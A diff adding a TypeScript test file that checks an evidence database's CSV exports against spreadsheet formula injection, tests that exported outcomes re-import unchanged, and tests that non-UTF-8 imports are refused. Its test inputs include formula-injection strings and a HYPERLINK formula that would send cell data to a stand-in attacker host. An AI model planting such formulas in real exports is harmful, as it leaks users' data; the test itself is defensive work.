@@ -1,0 +1,106 @@
+import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { seedsFolder } from '../../src/seeding/prepare-database.ts';
+import { importBytes, importTexts } from '../importing/support.ts';
+import { startApi, type TestApi } from '../support/api.ts';
+
+/** What a spreadsheet would run, what only looks as if we had guarded it, and what is neither. */
+const texts = [
+  '=1+1',
+  '+1',
+  '-44 HU',
+  '@SUM(A1)',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠x',
+  "'=1+1",
+  "''-2",
+  "'quoted'",
+  "'",
+  '=HYPERLINK("http://evil.example?x="&A1,"click")',
+];
+const formula = /^[=+\-@\t\r\n＝＋－＠]/;
+const number = /^-?[0-9]+(?:\.[0-9]+)?(?:e[-+]?[0-9]+)?$/;
+
+let api: TestApi;
+const folder = mkdtempSync(join(tmpdir(), 'evidence-formulas-'));
+const path = (id: string) => join(folder, 'studies', `${id}.json`);
+beforeAll(async () => {
+  cpSync(seedsFolder, folder, { recursive: true });
+  const study = JSON.parse(readFileSync(path('shea-2009'), 'utf8'));
+  const [outcome] = study.outcomes;
+  study.outcomes = texts.map((text, place) => ({
+    ...outcome,
+    id: `o${place + 1}`,
+    effectBasis: text,
+    subgroup: text,
+    method: text,
+    unit: text,
+  }));
+  Object.assign(study, { title: "'=title", acronym: '@acronym', funding: '-funding' });
+  writeFileSync(path('shea-2009'), JSON.stringify(study));
+  api = await startApi(folder);
+});
+afterAll(async () => {
+  await api.close();
+  rmSync(folder, { recursive: true });
+});
+
+const rowsOf = (text: string): Record<string, string>[] => parse(text, { columns: true });
+
+test('no cell of any CSV begins as a formula, and numbers stay numbers', async () => {
+  let negative = 0;
+  for (const url of [
+    '/studies?format=csv',
+    '/outcomes?format=csv',
+    '/claims?format=csv',
+    '/export/studies.csv',
+    '/export/outcomes.csv',
+    '/export/claims.csv',
+    '/export/escalc.csv',
+    '/aggregate?groupBy=intervention&format=csv',
+    '/meta-analysis?measure=CAC&intervention=vitamin_k&species=human&format=csv',
+  ]) {
+    const cells = rowsOf((await api.get(url)).text).flatMap((row) => Object.values(row));
+    expect(cells.length, url).toBeGreaterThan(0);
+    const run = cells.filter((cell) => formula.test(cell) && !number.test(cell));
+    expect(run, url).toEqual([]);
+    negative += cells.filter((cell) => cell.startsWith('-')).length;
+  }
+  expect(negative).toBeGreaterThan(10);
+});
+
+test('imported again, each text is what it was', async () => {
+  const before = (await api.get('/studies/shea-2009')).text;
+  const { text } = await api.get('/export/outcomes.csv');
+  const report = await importTexts(api.database, { 'outcomes.csv': text }, { onConflict: 'update' });
+  expect(report.entries).toEqual([]);
+  expect(report.counts).toMatchObject({ updated: 0, rejected: 0 });
+  expect((await api.get('/studies/shea-2009')).text).toBe(before);
+  // Where it had been lost before, it comes back.
+  const changed = JSON.parse(readFileSync(path('shea-2009'), 'utf8'));
+  for (const outcome of changed.outcomes) outcome.effectBasis = 'lost';
+  await importTexts(api.database, { 'studies.json': JSON.stringify(changed) }, { onConflict: 'update' });
+  const restored = await importTexts(api.database, { 'outcomes.csv': text }, { onConflict: 'update' });
+  expect(restored.counts).toMatchObject({ updated: 1, rejected: 0 });
+  const { body } = await api.get('/studies/shea-2009');
+  expect(body.outcomes.map(({ effectBasis }: { effectBasis: string }) => effectBasis)).toEqual(texts);
+});
+
+test('a CSV that is not UTF-8 is refused, not read as other letters', async () => {
+  const { text } = await api.get('/imports/templates/studies');
+  const named = text.replace(/(?<=\r\n)[^,]+/, 'mueller-2024').replaceAll('Example', 'Müller');
+  const files = {
+    latin: Buffer.from(`${named}Müller`, 'latin1'),
+    utf16: Buffer.from(`\uFEFF${named}`, 'utf16le'),
+  };
+  for (const bytes of Object.values(files)) {
+    const report = await importBytes(api.database, 'studies.csv', bytes);
+    expect(report.counts).toMatchObject({ created: 0, updated: 0 });
+    expect(report.files[0]?.stopped).toContain('UTF-8');
+  }
+});
